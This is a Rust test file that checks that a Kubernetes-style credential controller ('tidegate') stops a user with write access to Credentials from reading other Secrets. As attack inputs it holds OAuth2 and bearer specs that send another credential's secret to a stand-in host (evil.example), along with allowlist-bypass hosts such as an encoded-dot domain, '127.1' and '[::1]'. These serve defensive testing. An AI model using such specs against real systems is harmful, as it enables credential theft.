//! What somebody who may write Credentials, and read no Secret, tries in order to see one.

use std::sync::Arc;
use std::time::Duration;

use serde_json::{Value, json};
use tidegate::api::condition::{Condition, ConditionStatus};
use tidegate::domain::key::Key;
use tokio::time::sleep;

use crate::support::manifests::integration;
use crate::support::memory::{Process, World};
use crate::support::simulator::{Settings, Simulator};

fn credential(name: &str, hosts: Value, mut spec: Value) -> Value {
    spec["allowedHosts"] = hosts;
    json!({
        "apiVersion": "tidegate.dev/v1alpha1",
        "kind": "Credential",
        "metadata": {"name": name, "namespace": "shop"},
        "spec": spec,
    })
}

fn key(name: &str) -> Key {
    Key::new("shop", name)
}

fn ready(world: &World, name: &str) -> Condition {
    let status = world.credential(&key(name)).unwrap().status.unwrap();
    status.conditions.into_iter().find(|it| it.type_ == "Ready").unwrap()
}

/// Whatever is to be done now is done.
async fn settle() {
    sleep(Duration::from_secs(30)).await;
}

#[tokio::test(start_paused = true)]
async fn what_is_issued_for_some_hosts_cannot_be_named_by_a_credential_for_others() {
    let world = World::default();
    let process = Process::start(&world);
    world.apply_credential(credential("theirs", json!(["bank.example"]), json!({"generated": {}})));
    settle().await;
    let secret = world.held(&key("theirs-issued")).unwrap();
    let secret = secret.values["value"].expose().to_owned();
    let reference = json!({"name": "theirs-issued", "key": "value"});
    for spec in [
        json!({"bearer": {"secretRef": reference}}),
        json!({"jwt": {"algorithm": "HS256", "keyRef": reference}}),
        json!({"oauth2": {
            "grant": "ClientCredentials",
            "tokenURL": "https://evil.example/token",
            "clientID": "a",
            "clientSecretRef": reference,
        }}),
    ] {
        world.apply_credential(credential("payments-key", json!(["evil.example"]), spec.clone()));
        let mut manifest = integration("shop", "payments-api");
        manifest["spec"]["endpoints"][0]["url"] = "https://evil.example".into();
        let integration = world.apply_integration(manifest);
        settle().await;
        let told = ready(&world, "payments-key");
        assert_eq!(told.status, ConditionStatus::False, "{spec}");
        assert!(
            told.message.contains("there is no Secret `theirs-issued`"),
            "{}",
            told.message
        );
        assert_eq!(world.injected(&integration), None, "{spec}");
        assert!(!world.objects().contains(&secret));
    }
    process.stop().await;
}

#[tokio::test(start_paused = true)]
async fn two_credentials_with_one_secret_name_do_not_see_each_others_values() {
    let world = World::default();
    let process = Process::start(&world);
    world.apply_credential(credential("b", json!(["bank.example"]), json!({"generated": {}})));
    settle().await;
    let before = world.held(&key("b-issued")).unwrap();
    let spec = json!({"generated": {}, "secretName": "b-issued"});
    world.apply_credential(credential("a", json!(["evil.example"]), spec));
    settle().await;
    assert_eq!(ready(&world, "a").reason, "InvalidSpec");
    assert_eq!(world.held(&key("b-issued")).unwrap(), before);
    assert_eq!(ready(&world, "b").status, ConditionStatus::True);
    process.stop().await;
}

#[tokio::test(start_paused = true)]
async fn a_credential_that_authorises_a_step_is_sent_to_its_own_hosts_alone() {
    let world = World::default();
    let simulator = Simulator::new(Settings::default());
    world.reach(Arc::new(simulator.clone()));
    let process = Process::start(&world);
    world.apply_secret(&key("admin"), &[("token", "admin")]);
    let bearer = json!({"bearer": {"secretRef": {"name": "admin", "key": "token"}}});
    world.apply_credential(credential("admin", json!(["provider.test"]), bearer));
    for host in [
        "evil.example",
        "provider.test.evil.example",
        "provider.test%2eevil.example",
        "127.1",
        "[::1]",
    ] {
        let steps = json!({"create": {
            "request": {"url": format!("https://{host}/keys"), "body": "{\"label\": \"a\"}"},
            "credentialRef": {"name": "admin"},
            "extract": {"value": ".key", "id": ".id"},
        }});
        let spec = json!({"bearer": {}, "rotation": {"steps": steps}});
        let hosts = json!(["evil.example", "*.evil.example", "127.0.0.1", "[::1]"]);
        world.apply_credential(credential("mine", hosts, spec));
        settle().await;
        let told = ready(&world, "mine");
        assert_eq!(told.status, ConditionStatus::False, "{host}");
        assert!(
            told.message.contains("allowedHosts") || told.reason == "InvalidSpec",
            "{host}: {}",
            told.message
        );
        assert_eq!(simulator.live().len(), 0, "{host}");
    }
    process.stop().await;
}

#[tokio::test(start_paused = true)]
async fn a_credential_that_waits_for_its_first_value_is_no_warning_until_that_fails() {
    let world = World::default();
    let process = Process::start(&world);
    let spec = json!({"oauth2": {
        "grant": "ClientCredentials",
        "tokenURL": "https://idp.example/token",
        "clientID": "a",
        "clientSecretRef": {"name": "client", "key": "secret"},
    }});
    world.apply_integration(integration("shop", "payments-api"));
    settle().await;
    world.take_notices();
    world.apply_credential(credential(
        "payments-key",
        json!(["api.example.com"]),
        json!({"generated": {}}),
    ));
    settle().await;
    let reasons = |world: &World| -> Vec<&'static str> { world.take_notices().iter().map(|it| it.reason).collect() };
    let told = reasons(&world);
    assert!(!told.contains(&"CredentialNotReady"), "{told:?}");
    world.delete_credential(&key("payments-key"));
    settle().await;
    world.take_notices();
    // Its client secret does not exist.
    world.apply_credential(credential("payments-key", json!(["api.example.com"]), spec));
    settle().await;
    let told = reasons(&world);
    assert_eq!(
        told.iter().filter(|it| **it == "CredentialNotReady").count(),
        1,
        "{told:?}"
    );
    process.stop().await;
}
